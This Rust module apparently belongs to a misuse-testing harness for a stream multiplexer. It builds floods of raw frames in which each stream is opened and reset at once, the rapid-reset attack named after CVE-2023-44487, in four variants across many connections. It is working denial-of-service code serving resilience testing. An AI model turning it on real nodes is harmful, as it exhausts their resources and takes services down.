//! Streams that begin and are reset at once, as fast as it goes (CVE-2023-44487 has it of HTTP/2).

use super::misuse::{Misuse, misuse};
use super::raw_frames::{ECHO_LINES, FIN, RST, SYN, UPDATE, data, frame};
use super::scene::Scene;

/// Streams in one go.
const AT_ONCE: usize = 2_500;

/// A proposal that no node supports.
const UNSUPPORTED_LINES: &[u8] = b"\x13/multistream/1.0.0\n\x0c/none/1.0.0\n";

/// What comes between a stream's beginning and its reset.
#[derive(Clone, Copy)]
pub(crate) enum Form {
    /// Nothing: two frames of 12 bytes.
    Bare,
    /// The header and a proposal that is not supported.
    Unsupported,
    /// The header and a proposal that is supported.
    Supported,
    /// The same, and in place of the reset a polite end: of a stream on which nobody has anything to say.
    Polite,
}

/// The streams after which the node is as far behind as it gets.
const MANY: u32 = 100_000;

struct Resets {
    /// The frames of streams in one go, for one after the other to write its id into.
    frames: Vec<u8>,
    /// Where the frames of one stream end.
    length: usize,
    /// Where its last frame, the RST, begins.
    reset: usize,
    next: u32,
}

impl Resets {
    fn new(form: Form) -> Self {
        let begin = match form {
            Form::Bare => frame(UPDATE, SYN, 0, 0),
            Form::Unsupported => data(SYN, 0, UNSUPPORTED_LINES),
            Form::Supported | Form::Polite => data(SYN, 0, ECHO_LINES),
        };
        let end = if matches!(form, Form::Polite) { FIN } else { RST };
        let stream = [begin.clone(), frame(UPDATE, end, 0, 0)].concat();
        Self { frames: stream.repeat(AT_ONCE), length: stream.len(), reset: begin.len(), next: 1 }
    }
}

impl Misuse for Resets {
    fn more(&mut self, out: &mut Vec<u8>) {
        for stream in self.frames.chunks_mut(self.length) {
            for at in [0, self.reset] {
                stream[at + 4..at + 8].copy_from_slice(&self.next.to_be_bytes());
            }
            self.next = self.next.wrapping_add(2);
        }
        out.extend_from_slice(&self.frames);
    }

    fn is_set_up(&self) -> bool {
        self.next / 2 >= MANY
    }
}

/// Resets streams on a number of connections.
pub(crate) fn resets(scene: &Scene, connections: usize, form: Form) {
    misuse(scene, connections, |_| Resets::new(form));
}
